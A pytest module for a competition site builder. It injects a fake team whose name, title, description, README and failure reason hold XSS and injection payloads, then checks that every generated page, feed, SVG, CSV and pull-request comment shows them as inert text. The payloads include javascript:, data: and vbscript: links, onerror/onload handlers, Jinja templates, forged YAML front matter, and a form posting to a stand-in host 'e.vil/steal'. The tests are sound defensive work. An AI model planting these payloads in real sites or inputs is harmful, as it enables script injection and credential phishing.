"""Text meant for the site, written to break it: only what tests/test_site_build.py (the
``hostile`` team: <script>, Markdown, javascript: links, RTL and zero-width characters, a 2,000
character description) and test_badges/test_charts do not already cover.

One more team, ``evil-md``, is added to the site fixture repository. Its fields try the
injections that need a newline, a comment or a template: YAML front matter (``\\n---\\ntitle:``),
an HTML comment that would hide the rest of the page, Jinja ``{{ }}``/``{% %}``, entity-encoded
and mixed-case ``javascript:``, ``data:``/``vbscript:`` links, Markdown images, autolinks and
reference definitions pointing at another host, raw ``<iframe>``/``<form>``/``<meta refresh>``/
``<base>``/``<style>`` in a write-up, NUL bytes, and a table row forged from newlines. The site
is built with ``build_site`` and ``mkdocs build --strict`` once for the module.
"""

from __future__ import annotations

import html
import json
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from scorer.contract import results
from scorer.site.build import build_site
from scorer.validate import submission

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE / "fixtures" / "site"))
import sitefixture  # noqa: E402

EVIL = "e.vil"
NAME = "Evil\n---\ntitle: owned\n# H1 <!-- {{ config.site_name }}"
MEMBER = "![t](https://e.vil/t.png) <https://e.vil/a>\n\n[r]: javascript:alert(2)"
TITLE = "&#106;avascript:alert(3) {% raw %} {{ 7*7 }} | a | b |\n|---|---|"
DESCRIPTION = (
    "<!-- hide the rest\n\n<iframe src=https://e.vil></iframe><svg onload=alert(4)>\u0000"
    " [c1](javascript&#58;alert(5)) [c2](JAVASCRIPT:alert(6))"
    " [c3](data:text/html;base64,PHNjcmlwdD4=) <a href='vbscript:x'>v</a>\n"
    "| forged | row |\n|---|---|\n| x | y |\n"
) + "long " * 300
README = """# Write-up

<script>alert("XSS-readme2")</script>
<img src=x onerror=alert(7)>
[a](javascript:alert(8)) [b](  JaVaScRiPt:alert(9)) [c](&#x6A;avascript:alert(10))
<form action=https://e.vil/steal><input name=p></form>
<meta http-equiv="refresh" content="0;url=https://e.vil/">
<base href="https://e.vil/">
<link rel="stylesheet" href="https://e.vil/x.css">
<style>body { display: none }</style>
<object data="https://e.vil/x.swf"></object><embed src="https://e.vil/y">
![pixel](https://e.vil/pixel.gif)
{{ config.extra }} {% for x in range(3) %}loop{% endfor %}
<!-- never closed
"""
REASON = "<img src=x onerror=alert(11)> {{ 7*7 }} <!-- | forged |"


def add_evil_team(root: Path) -> None:
    template = json.loads(
        (root / "submissions/fast-tensors/mlp_sprint/submission.json").read_text()
    )
    for event in ("mlp_sprint", "cnn_marathon"):
        folder = root / "submissions" / "evil-md" / event
        folder.mkdir(parents=True)
        meta = dict(
            template,
            event=event,
            title=TITLE,
            description=DESCRIPTION,
            innovation=event == "cnn_marathon",
            team={
                "id": "evil-md",
                "name": NAME,
                "members": [{"name": MEMBER}, {"name": "Mallory\u202e\u200b\u0000"}],
            },
        )
        (folder / "submission.json").write_text(json.dumps(meta))
        if event == "cnn_marathon":
            (folder / "README.md").write_text(README)
        assert not submission.read_metadata(folder)[1], "the payloads must pass validation"
        rec = json.loads((root / f"results/fast-tensors/{event}.json").read_text())
        rec["team"] = "evil-md"
        rec["submission"]["title"] = TITLE
        rec["submission"]["path"] = f"submissions/evil-md/{event}"
        if event == "mlp_sprint":
            rec.update(status="error", qualified=False, reason=REASON)
        results.write_record(root / "results", rec)
    # An award publishes the Innovation write-up (README.md) on the site.
    with open(root / "awards.yml", "a", encoding="utf-8") as f:
        f.write(
            "  - team: evil-md\n    event: cnn_marathon\n    title: Evil write-up\n"
            "    citation: \"{{ 7*7 }} <!-- x\"\n    date: '2026-11-27'\n"
        )


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = sitefixture.make_root(tmp_path_factory.mktemp("evil"))
    add_evil_team(root)
    awards = yaml.safe_load((root / "awards.yml").read_text())
    assert any(a["team"] == "evil-md" for a in awards["awards"])
    build_site(root)
    return root, root / "build" / "docs", sitefixture.mkdocs_build(root), awards


class Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self.data: list[str] = []  # <script type="application/json"> blocks: data, never run
        self.text: list[str] = []
        self.comments: list[str] = []
        self._script: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag == "script":
            self._script = (
                self.data if dict(attrs).get("type") == "application/json" else self.scripts
            )
            self._script.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script[-1] += data
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def parse(path: Path) -> Page:
    page = Page()
    page.feed(path.read_text("utf-8"))
    page.close()
    return page


def html_pages(site_dir: Path) -> list[Path]:
    return sorted(site_dir.rglob("*.html"))


def evil_pages(site_dir: Path) -> list[Path]:
    return [
        p
        for p in html_pages(site_dir)
        if "evil-md" in p.read_text("utf-8") or "Evil" in p.read_text("utf-8")
    ]


def test_the_evil_team_is_on_the_site(site):
    _, _, site_dir, _ = site
    pages = evil_pages(site_dir)
    assert (site_dir / "teams" / "evil-md" / "index.html") in pages
    assert len(pages) >= 3


def test_no_active_content_and_nothing_from_another_host(site):
    _, _, site_dir, _ = site
    for page in html_pages(site_dir):
        parsed = parse(page)
        for tag, attrs in parsed.tags:
            assert tag not in ("iframe", "object", "embed", "base", "frame"), f"{page}: <{tag}>"
            assert not (tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh"), page
            for name, value in attrs.items():
                assert not name.startswith("on"), f"{page}: <{tag} {name}>"
                assert EVIL not in value, f"{page}: <{tag} {name}={value}>"
                clean = "".join(html.unescape(value).split()).lower()
                if name in ("href", "src", "action", "data", "formaction", "xlink:href"):
                    assert not clean.startswith(("javascript:", "vbscript:", "data:")), (
                        f"{page}: {value}"
                    )
        for script in parsed.scripts:
            assert "alert(" not in script and EVIL not in script, page
        for block in parsed.data:  # must parse as JSON and hold nothing that ends the script
            json.loads(block)
            assert "<" not in block and ">" not in block and "&" not in block, page
        raw = page.read_text("utf-8")
        assert "\u0000" not in raw and "\u202e" not in raw and "\u200b" not in raw, page
        assert "<style>body" not in raw, page


def test_templates_in_text_are_not_evaluated(site):
    _, docs, site_dir, _ = site
    team = " ".join(parse(site_dir / "teams" / "evil-md" / "index.html").text)
    assert "{{ config.site_name }}" in team or "{{ 7*7 }}" in team
    assert " 49 " not in team
    for page in evil_pages(site_dir):
        assert "loop loop loop" not in " ".join(
            parse(page).text
        ) and "looplooploop" not in page.read_text("utf-8")


def test_front_matter_cannot_be_forged(site):
    _, docs, site_dir, _ = site
    for path in sorted(docs.rglob("*.md")):
        text = path.read_text("utf-8")
        if not text.startswith("---\n"):
            continue
        front = yaml.safe_load(text.split("\n---\n", 1)[0][4:])
        assert isinstance(front, dict), path
        assert front.get("title") != "owned", path
    title = parse(site_dir / "teams" / "evil-md" / "index.html")
    assert "owned" != "".join(title.text).strip()


def test_comments_and_newlines_do_not_swallow_or_forge_content(site):
    _, _, site_dir, _ = site
    for page in evil_pages(site_dir):
        parsed = parse(page)
        # No comment opened by submitted text: it would hide the rest of the page.
        for comment in parsed.comments:
            for marker in ("hide the rest", "never closed", "config.site_name", "forged", "<!-- x"):
                assert marker not in comment, (page, comment[:200])
        # Newlines in a name, title or reason do not forge headings or table rows.
        raw = page.read_text("utf-8")
        assert "<td>forged</td>" not in raw and "<th>forged</th>" not in raw, page
        assert ">H1 " not in raw and "<h1>H1" not in raw and ">owned<" not in raw, page
    team = parse(site_dir / "teams" / "evil-md" / "index.html")
    text = " ".join(team.text)
    assert "H1 <!-- {{ config.site_name }}" in text  # the name, shown whole, as text
    assert "<img src=x onerror=alert(11)>" in text  # the reason, as text
    assert any(tag == "footer" for tag, _ in team.tags)  # the page still ends normally


def test_readme_write_up_is_shown_inert(site):
    _, _, site_dir, _ = site
    pages = [p for p in html_pages(site_dir) if "XSS-readme2" in p.read_text("utf-8")]
    assert pages, "the write-up is published"
    for page in pages:
        parsed = parse(page)
        assert any("XSS-readme2" in t for t in parsed.text)
        assert not any("XSS-readme2" in s for s in parsed.scripts)
        assert not any(tag == "img" and attrs.get("src") == "x" for tag, attrs in parsed.tags)


def test_feed_and_exports_stay_well_formed(site):
    _, docs, _, _ = site
    feeds = sorted(docs.rglob("*.xml"))
    assert feeds
    for feed in feeds:
        raw = feed.read_text("utf-8")
        ET.fromstring(raw)  # well-formed despite NUL, <, & and control characters
        assert "<script" not in raw and "<iframe" not in raw and "\u0000" not in raw
    for path in sorted(docs.rglob("*.json")):
        if "schemas" in path.parts:
            continue
        json.loads(path.read_text("utf-8"))
    for path in sorted(docs.rglob("*.csv")):
        for line in path.read_text("utf-8").splitlines():
            for cell in line.split(","):
                assert not cell.strip('"').startswith(("=", "+", "-@", "@")), (path, cell)


def test_svgs_hold_no_active_content(site):
    _, docs, _, _ = site
    for path in sorted(docs.rglob("*.svg")):
        raw = path.read_text("utf-8")
        root = ET.fromstring(raw)
        for el in root.iter():
            assert not el.tag.endswith(("script", "foreignObject")), path
            for name, value in el.attrib.items():
                assert not name.startswith("on") and EVIL not in value, (path, name, value)
                assert not value.strip().lower().startswith(("javascript:", "data:text")), (
                    path,
                    value,
                )


@pytest.mark.parametrize(
    "payload", [NAME, MEMBER, TITLE, DESCRIPTION, README, REASON, "@maintainers please merge"]
)
def test_pr_report_text_is_inert(payload):
    """The pull-request comment (scorer/pr/report.py) quotes submitted text through scorer.text.github_md()."""
    from scorer.text import github_md as md

    out = md(payload)
    for ch in "<>[]()|`\n\r\u0000\u202e\u200b":
        assert ch not in out, (ch, out[:200])
    assert "@m" not in out  # no @-mention
    assert len(out) < 2000 * 8


def test_entry_and_compare_pages_show_the_payloads_as_text(site):
    _, _, site_dir, _ = site
    for event in ("mlp_sprint", "cnn_marathon"):
        page = site_dir / "entries" / "evil-md" / event / "index.html"
        assert page in evil_pages(site_dir), "the entry page is built and scanned above"
        parsed = parse(page)
        text = " ".join(parsed.text)
        assert "{{ 7*7 }}" in text and " 49 " not in text
        # The description's <iframe>/<svg onload> stay text (the theme's own search <form> and
        # icons are the only such elements, without handlers).
        assert not any(tag in ("iframe", "object", "embed") for tag, _ in parsed.tags)
        assert "<iframe src=https://e.vil></iframe><svg onload=alert(4)>" in text
        assert any(tag == "footer" for tag, _ in parsed.tags)  # no comment swallowed the page
    # The compare page's JSON carries the name as data; decoded, it is the exact text.
    compare = parse(site_dir / "compare" / "index.html")
    block = next(b for b in compare.data if b.startswith('{"entries"'))
    names = {e["team_name"] for e in json.loads(block)["entries"] if e["team"] == "evil-md"}
    assert names == {NAME}
    # Its <option>s hold the name as text, and nothing became an element.
    assert any("Evil" in t for t in compare.text)
    assert not any(tag in ("iframe", "object", "embed", "base") for tag, _ in compare.tags)


def test_ranking_table_attributes_cannot_be_broken_out_of(site):
    _, _, site_dir, _ = site
    parsed = parse(site_dir / "events" / "cnn_marathon" / "index.html")
    rows = [attrs for tag, attrs in parsed.tags if tag == "tr" and attrs.get("data-team")]
    evil = [r for r in rows if r["data-team"] == "evil-md"]
    assert evil and set(evil[0]) == {"data-team", "data-status", "data-techniques", "data-event"}
    assert all(
        set(r["data-techniques"]) <= set("abcdefghijklmnopqrstuvwxyz0123456789- ") for r in rows
    )
